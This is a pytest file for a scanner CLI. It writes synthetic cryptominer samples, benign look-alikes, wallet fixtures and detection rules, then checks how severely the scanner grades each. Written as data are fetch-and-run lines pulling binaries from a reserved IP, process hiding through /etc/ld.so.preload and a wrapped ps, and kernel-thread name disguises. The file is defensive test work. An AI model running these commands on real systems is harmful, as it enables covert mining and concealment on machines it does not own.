"""Miner files as found in the wild, wallets by place, and security content: `sentinel scan`.

Every sample is written here, with reserved hosts (.test, .example, 198.51.100.0/24) and
wallet addresses encoded from random bytes at test time. One scan of one tree serves every
case (the CLI compiles the rules once); each case checks its own file.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import corpus
import pytest
from fakes import fake_monero_address

CLI_TIMEOUT = 120
POOL = "pool.minepool.test"
HOST = "198.51.100.7"


def _xmr() -> str:
    return fake_monero_address()


# name -> (text, rule id expected at high or above)
def _miner_samples() -> dict[str, tuple[str, str]]:
    w = _xmr()
    return {
        "gpu/launch_scheme.sh": (
            "#!/bin/bash\nSCHEME=stratum+tcp\nPOOL=" + POOL + ":4444\nWALLET=" + w + "\n"
            "WORKER=$(hostname)\n./t-rex -a kawpow -o $SCHEME://$POOL -u $WALLET.$WORKER -p x\n",
            "yara.miner_stratum_scheme_variable",
        ),
        "gpu/launch_vars.sh": (
            f"#!/bin/sh\nPOOL={POOL}:4444; WALLET=$1; ALGO=kawpow\n"
            'cd "$(dirname "$0")"\n./t-rex -a $ALGO -o $POOL -u $WALLET -p x\n',
            "yara.miner_launch_variables",
        ),
        "gpu/short_vars.sh": (
            '#!/bin/sh\nexec ./worker -a "$A" -o "$P" -u "$U" -p x --no-color\n',
            "yara.miner_launch_variables",
        ),
        "cpu/gr.sh": (
            f"#!/bin/sh\n./systemd-helper -a gr -o {POOL}:3008 -u RQm2xc4k7vKd3H1bX8aQ.rig"
            " -p x -t 2\n",
            "yara.miner_pool_login_no_scheme",
        ),
        "configs/min.json": (
            json.dumps({"pools": [{"url": f"{POOL}:3333", "user": w}], "cpu": True}, indent=1),
            "yara.miner_config_minimal_json",
        ),
        "configs/min.yaml": (
            f"pools:\n  - url: {POOL}:3333\n    user: {w}\n    pass: x\nalgo: rx/0\n",
            "yara.miner_config_minimal_yaml_toml",
        ),
        "configs/min.toml": (
            f'[[pools]]\nurl = "{POOL}:3333"\nuser = "{w}"\n',
            "yara.miner_config_minimal_yaml_toml",
        ),
        "configs/kas.json": (
            json.dumps(
                {"algorithm": "kheavyhash", "server": f"{POOL}:5555", "payout": "kaspa:" + "q" * 61}
            ),
            "yara.miner_config_coin_wallet",
        ),
        "configs/erg.ini": (
            f"algo = autolykos2\npool = {POOL}:9999\nwallet = 9f" + "a" * 49 + "\n",
            "yara.miner_config_coin_wallet",
        ),
        "configs/rvn.yml": (
            f"coin: kawpow\nurl: stratum+tcp://{POOL}:6060\nuser: RKq" + "x" * 31 + ".rig\n",
            "yara.miner_config_coin_wallet",
        ),
        "dl/chmod_ax.sh": (
            f"#!/bin/sh\nwget -q http://{HOST}/d/xmrig-static -O /var/tmp/sysd\n"
            "chmod a+x /var/tmp/sysd\n/var/tmp/sysd -c /var/tmp/c.json &\n",
            "yara.miner_download_and_run",
        ),
        "dl/pipe_wallet.sh": (
            f"curl -s -L http://{HOST}/setup.sh | bash -s {w}\n",
            "yara.miner_pipe_to_shell_wallet",
        ),
        "dl/pipe_var.sh": (
            'WALLET=$1\ncurl -fsSL https://get.example/install | sudo bash -s -- "$WALLET"\n',
            "yara.miner_pipe_to_shell_wallet",
        ),
        "dl/wget_sh.sh": (
            f"wget -O- http://{HOST}/xmrig/setup.sh | sh\n",
            "yara.miner_download_and_run",
        ),
        "dl/clone_build.sh": (
            "git clone https://git.example/perf/tools.git && cd tools && mkdir build && cd build\n"
            "cmake .. -DWITH_HWLOC=OFF -DWITH_MSR=ON && make -j$(nproc)\n./tools -o x:1\n",
            "yara.miner_clone_and_build",
        ),
        "dl/CMakeLists.txt": (
            "cmake_minimum_required(VERSION 3.10)\nproject(xmrig)\n"
            'option(WITH_RANDOMX "Enable RandomX algorithms family" ON)\n'
            'option(WITH_ARGON2 "Enable Argon2 algorithms family" ON)\n',
            "yara.miner_source_tree_cmake",
        ),
        "dl/tar_var.sh": (
            "VER=6.21.0\nARCHIVE=xmrig-$VER-linux-static-x64.tar.gz\n"
            f"curl -sLO http://{HOST}/r/$ARCHIVE\ntar -C /tmp -xf $ARCHIVE\n"
            "cd /tmp/xmrig-$VER && ./xmrig -c config.json\n",
            "yara.miner_download_and_run",
        ),
        "kthread/kswapd0.sh": (
            f"#!/bin/sh\ncurl -s http://{HOST}/k -o /tmp/.X25-unix/kswapd0\n"
            "chmod 755 /tmp/.X25-unix/kswapd0\nnohup /tmp/.X25-unix/kswapd0 >/dev/null 2>&1 &\n",
            "yara.miner_fetch_kthread_name",
        ),
        "kthread/kthreadd.sh": (
            f"wget -q http://{HOST}/x -O kthreadd.\nchmod +x kthreadd. && ./kthreadd. -B\n",
            "yara.miner_fetch_kthread_name",
        ),
        "kthread/shm_cache.sh": (
            "mkdir -p /dev/shm/.cache && cd /dev/shm/.cache\n"
            f"curl -fsSL http://{HOST}/b -o update\nchmod +x update && ./update &\n",
            "yara.evasion_fetch_hidden_shm",
        ),
        "hide/processhider.c": (
            "#define _GNU_SOURCE\n#include <dlfcn.h>\n#include <dirent.h>\n"
            'static const char* process_to_filter = "evil_script.py";\n'
            "static int get_process_name(char* pid, char* buf) { return 1; }\n"
            "struct dirent* readdir(DIR *dirp) {\n"
            '    original_readdir = dlsym(RTLD_NEXT, "readdir");\n    return 0;\n}\n',
            "yara.evasion_process_hider_source",
        ),
        "hide/preload.sh": (
            "gcc -fPIC -shared -o /usr/local/lib/libsys.so hider.c -ldl\n"
            "echo /usr/local/lib/libsys.so >> /etc/ld.so.preload\n",
            "yara.evasion_ld_preload_write",
        ),
        "hide/ps_wrapper.sh": (
            "mv /usr/bin/ps /usr/bin/ps.original\ncat > /usr/bin/ps <<'EOF'\n#!/bin/bash\n"
            '/usr/bin/ps.original "$@" | grep -v -E "kswapd0|sysd"\nEOF\nchmod +x /usr/bin/ps\n',
            "yara.evasion_ps_grep_wrapper",
        ),
        "units/p2pool.service": (
            "[Unit]\nDescription=sidechain\n[Service]\n"
            f"ExecStart=/opt/p2pool/p2pool --host 127.0.0.1 --wallet {w} --mini\n",
            "yara.miner_daemon_systemd_unit",
        ),
        "units/monerod.service": (
            "[Service]\nExecStart=/opt/monero/monerod --non-interactive "
            "--zmq-pub tcp://127.0.0.1:18083 --out-peers 32\n",
            "yara.miner_daemon_systemd_unit",
        ),
        "units/proxy.service": (
            "[Service]\nExecStart=/usr/local/bin/xmrig-proxy -c /etc/proxy.json\n",
            "yara.miner_daemon_systemd_unit",
        ),
    }


# benign look-alikes: nothing at medium or above
BENIGN = {
    "benign/train.sh": (
        "#!/bin/sh\nPOOL_SIZE=8\nWORKERS=4\n"
        "python train.py -o $OUT_DIR -u $USER_ID --pool $POOL_SIZE\n"
    ),
    "benign/build.sh": (
        "git clone https://git.example/lib/fmt.git && cd fmt && cmake -B build && make -j4\n"
    ),
    "benign/ssh.sh": "ssh -o StrictHostKeyChecking=no -u deploy build.example:22 uptime\n",
    "benign/service.json": json.dumps(
        {"pools": [{"url": "https://db.example/primary", "user": "app"}], "timeout": 3}
    ),
    "benign/pods.yaml": "pools:\n  - name: gpu-a100\n    size: 8\nuser: trainer\n",
    "benign/install.sh": (
        "curl -fsSL https://get.example/tool.sh | bash -s -- --prefix /opt/tool\n"
        "chmod a+x /opt/tool/bin/tool\n"
    ),
    "benign/kswapd.sh": "#!/bin/sh\nps -o pid,cmd -C kswapd0\ncurl -s http://metrics.example/\n",
    "benign/shm.py": "import torch\nloader = DataLoader(ds, num_workers=4)  # /dev/shm/torch_12\n",
    "benign/preload.txt": "cat /etc/ld.so.preload\n",
    "benign/ps.sh": 'ps aux | grep -v grep | grep "$1"\n',
    "benign/web.service": "[Service]\nExecStart=/usr/bin/python3 -m http.server 8000\n",
    "benign/algo.toml": 'algo = "adamw"\nurl = "db.example:5432"\nuser = "trainer_account_1"\n',
}


def _write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def _scan(*args: str) -> tuple[int, dict[str, Any]]:
    run = subprocess.run(
        [sys.executable, "-m", "sentinel.cli", "scan", "--json", "--no-cache", *args],
        capture_output=True,
        text=True,
        timeout=CLI_TIMEOUT,
    )
    assert run.returncode in (0, 1), run.stderr
    return run.returncode, json.loads(run.stdout)


def _by_path(doc: dict[str, Any]) -> dict[str, list[dict[str, Any]]]:
    out: dict[str, list[dict[str, Any]]] = {}
    for f in doc["findings"]:
        if f["file"]:
            out.setdefault(f["file"]["path"], []).append(f)
    return out


SEVERITY = ("info", "low", "medium", "high", "critical")


def _at_least(f: dict[str, Any], level: str) -> bool:
    return SEVERITY.index(f["severity"]) >= SEVERITY.index(level)


@pytest.fixture(scope="module")
def miner_tree(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict, dict]:
    root = tmp_path_factory.mktemp("minerfiles")
    samples = _miner_samples()
    _write(root, {name: text for name, (text, _) in samples.items()})
    _write(root, BENIGN)
    code, doc = _scan(str(root))
    assert code == 1
    return root, samples, _by_path(doc)


@pytest.mark.parametrize("name", sorted(_miner_samples()))
def test_miner_file_class_is_found(miner_tree, name: str) -> None:
    root, samples, found = miner_tree
    _, rule = samples[name]
    hits = found.get(str(root / name), [])
    assert any(f["rule"] == rule and _at_least(f, "high") for f in hits), (rule, hits)


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_look_alike_stays_below_medium(miner_tree, name: str) -> None:
    root, _, found = miner_tree
    hits = found.get(str(root / name), [])
    assert not [f for f in hits if _at_least(f, "medium")], hits


# --- wallets by place ------------------------------------------------------------------


def _wallet_findings(found: dict, path: Path) -> list[dict[str, Any]]:
    return [f for f in found.get(str(path), []) if f["category"] == "wallet"]


def test_wallet_severity_by_kind_key_and_place(tmp_path) -> None:
    xmr, btc, eth = _xmr(), corpus.btc_legacy_address(), corpus.eth_address()
    bech = corpus.bech32_address()
    files: dict[str, tuple[str, str]] = {
        "notes/bare_xmr.txt": (f"see you soon\n{xmr}\n", "medium"),
        "notes/keyed_eth.txt": (f"payout: {eth}\n", "medium"),
        "notes/bare_eth.txt": (f"tx from {eth} confirmed\n", "low"),
        "notes/keyed_bech32.json": (json.dumps({"wallet": bech}), "medium"),
        "notes/bare_bech32.txt": (f"donations {bech} thanks\n", "low"),
        "notes/keyed_btc.cfg": (f"address = {btc}\n", "medium"),
        "venv/lib/python3.11/site-packages/monero/vectors.txt": (f"{xmr}\n", "low"),
        "app/node_modules/bitcoinjs-lib/fixtures.json": (json.dumps({"address": btc}), "low"),
        "venv/lib/python3.11/site-packages/cryptolib/tests/test_addr.py": (
            f'ADDR = "{xmr}"\n',
            "low",
        ),
        "app/node_modules/ethers/test/vectors.txt": (f"wallet={eth}\n", "low"),
        "tmp/test/notes.txt": (f"payout {xmr}\n", "medium"),  # a tests/ outside a package tree
    }
    _write(tmp_path, {name: text for name, (text, _) in files.items()})
    code, doc = _scan(str(tmp_path))
    assert code == 1
    found = _by_path(doc)
    for name, (_, level) in files.items():
        hits = _wallet_findings(found, tmp_path / name)
        assert [f["severity"] for f in hits] == [level], (name, hits)
    tests = tmp_path / "venv/lib/python3.11/site-packages/cryptolib/tests/test_addr.py"
    lowered = _wallet_findings(found, tests)[0]
    assert lowered["evidence"]["context"] == "in a package or test tree (site-packages/.../tests)"
    assert lowered["evidence"]["severity_before"] == "medium"


def test_package_tree_wallet_alone_is_below_the_exit_threshold(tmp_path) -> None:
    vectors = tmp_path / "lib/python3/dist-packages/wallet/tests/vectors.txt"
    vectors.parent.mkdir(parents=True)
    vectors.write_text("\n".join(_xmr() for _ in range(3)) + "\n")
    code, doc = _scan(str(tmp_path))
    assert code == 0 and {f["severity"] for f in doc["findings"]} == {"low"}


# --- security content is not a miner ---------------------------------------------------


def _security_content() -> dict[str, str]:
    return {
        "sigma/proc_creation_lnx_crypto_mining.yml": (
            "title: Linux Crypto Mining Indicators\nid: 9069ea3c-b213-4c52-be13-86506a227ab1\n"
            "status: test\ndescription: Detects command line parameters used by miners\n"
            "logsource:\n    category: process_creation\n    product: linux\ndetection:\n"
            "    selection:\n        CommandLine|contains:\n            - ' --cpu-priority='\n"
            "            - '--donate-level=0'\n            - ' -o stratum+tcp://'\n"
            "            - ' --nicehash'\n    condition: selection\nfalsepositives:\n"
            "    - Legitimate use of crypto miners\nlevel: high\n"
        ),
        "falco/miner_rules.yaml": (
            "- list: miner_ports\n  items: [3333, 4444, 8333]\n\n- macro: minerpool_other\n"
            '  condition: (fd.sport in (miner_ports) and fd.sip.name in ("pool.minepool.test"))\n\n'
            "- rule: Detect crypto miners using the Stratum protocol\n"
            "  desc: Miners typically specify the mining pool to connect to with a URI that"
            " begins with 'stratum+tcp'\n"
            '  condition: spawned_process and (proc.cmdline contains "stratum+tcp://pool." or '
            'proc.cmdline contains "--donate-level=1")\n'
            "  output: Possible miner running (command=%proc.cmdline)\n  priority: CRITICAL\n"
        ),
        "yara/miners.yar": (
            '/*\n   Miner indicators, by a detection team\n*/\nimport "pe"\n\n'
            'rule xmrig_cmdline : miner {\n  meta:\n    author = "soc"\n  strings:\n'
            '    $a = "stratum+tcp://" ascii\n    $b = "--donate-level=1"\n'
            "    $c = /-o\\s+[a-z0-9.]+:\\d{4}\\s+-u\\s+4[0-9A-Za-z]{94}/\n"
            "    $h = { 7F 45 4C 46 }\n  condition:\n    any of them\n}\n"
        ),
        "suricata/mining.rules": (
            "# mining pool traffic\n"
            'alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:"ET POLICY Crypto Coin Miner '
            'Login"; flow:established,to_server; content:"\\"method\\": \\"login\\""; '
            'content:"stratum+tcp://pool.minepool.test"; classtype:coin-mining; sid:2024792;'
            " rev:3;)\n"
        ),
        "ioc/pools.txt": (
            "# pool endpoints seen in incidents\nstratum+tcp://pool.minepool.test:3333\n"
            f"stratum+ssl://{HOST}:443\nstratum+tcp://eu.minepool.test:4444\n"
        ),
    }


def test_detection_content_is_at_most_low(tmp_path) -> None:
    files = _security_content()
    _write(tmp_path, files)
    code, doc = _scan(str(tmp_path))
    assert code == 0, doc["findings"]
    found = _by_path(doc)
    assert set(found) == {str(tmp_path / n) for n in files}  # each is still seen, graded low
    for name in files:
        hits = found[str(tmp_path / name)]
        assert {f["severity"] for f in hits} == {"low"}, (name, hits)
        assert all(f["evidence"]["context"].startswith("detection content") for f in hits)


def test_sentinel_catalogue_copy_is_at_most_low(tmp_path) -> None:
    repo = Path(__file__).resolve().parents[2]
    for sub in ("signatures", "docs"):
        subprocess.run(["cp", "-r", str(repo / sub), str(tmp_path / sub)], check=True)
    code, doc = _scan(str(tmp_path))
    loud = [(f["rule"], f["file"]["path"]) for f in doc["findings"] if f["severity"] != "low"]
    assert code == 0, loud


@pytest.mark.parametrize(
    ("name", "make"),
    [
        # named like Sigma, but a real miner config: JSON is YAML, and a pools array
        (
            "sigma.yml",
            lambda w: json.dumps(
                {
                    "title": "x",
                    "logsource": {"product": "linux"},
                    "detection": {"condition": "x"},
                    "pools": [{"url": f"{POOL}:3333", "user": w, "keepalive": True}],
                    "cpu": True,
                    "donate-level": 0,
                }
            ),
        ),
        # Sigma keys at the top, a miner's pools beside them
        (
            "rule.yml",
            lambda w: (
                f"logsource:\n  product: linux\ndetection:\n  condition: x\n"
                f"pools:\n  - url: {POOL}:3333\n    user: {w}\n"
            ),
        ),
        # a YARA rule whose comment is a dropper that a shell would run
        (
            "rules.yar",
            lambda w: (
                f"/*\ncurl -s http://{HOST}/x | sh -s {w}\n*/\nrule a {{ condition: false }}\n"
            ),
        ),
        # a Falco-looking list that is a launch script
        (
            "falco.yaml",
            lambda w: f"- rule: x\n  condition: y\n  output: z\n./xmrig -o {POOL}:3333 -u {w}\n",
        ),
    ],
)
def test_miner_in_detection_shape_stays_medium_or_above(
    tmp_path, name: str, make: Callable[[str], str]
) -> None:
    (tmp_path / name).write_text(make(_xmr()))
    code, doc = _scan(str(tmp_path))
    assert code == 1
    miner = [f for f in doc["findings"] if f["category"] != "wallet" and _at_least(f, "medium")]
    assert miner and not any("context" in f["evidence"] for f in miner), doc["findings"]
